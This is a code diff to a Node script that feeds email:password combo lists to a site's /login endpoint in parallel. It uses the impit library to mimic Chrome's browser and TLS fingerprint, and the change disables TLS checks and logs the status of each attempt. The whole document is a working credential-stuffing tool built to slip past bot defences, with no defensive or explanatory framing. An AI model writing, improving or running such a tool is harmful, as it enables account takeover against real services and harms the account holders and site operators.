@@ -1,4 +1,4 @@
-/** Tries the pairs in `combos` by impit, which copies Chrome. Arguments: URL, parallel. */
+/** Tries the pairs in `combos` by impit, which copies Chrome, its TLS included; says how each attempt ended. Arguments: URL, parallel. */
 import { readFileSync } from "node:fs";
 import { Impit } from "impit";
 
@@ -9,13 +9,19 @@ async function work() {
   for (let line = lines.pop(); line !== undefined; line = lines.pop()) {
     const [email = "", password = ""] = line.split(":");
     // Another one each time, so that each attempt has a connection of its own.
-    const browser = new Impit({ browser: "chrome", followRedirects: false, timeout: 10_000 });
+    const browser = new Impit({
+      browser: "chrome",
+      followRedirects: false,
+      ignoreTlsErrors: true,
+      timeout: 10_000,
+    });
     const body = new URLSearchParams({ email, password }).toString();
     const headers = { "content-type": "application/x-www-form-urlencoded" };
-    await browser
-      .fetch(`${url}/login`, { method: "POST", headers, body })
-      .then((answer) => answer.text())
-      .catch(() => undefined);
+    const status = await browser.fetch(`${url}/login`, { method: "POST", headers, body }).then(
+      (answer) => answer.status,
+      () => 0,
+    );
+    console.log(`attempt ${email} ${status}`);
   }
 }
 
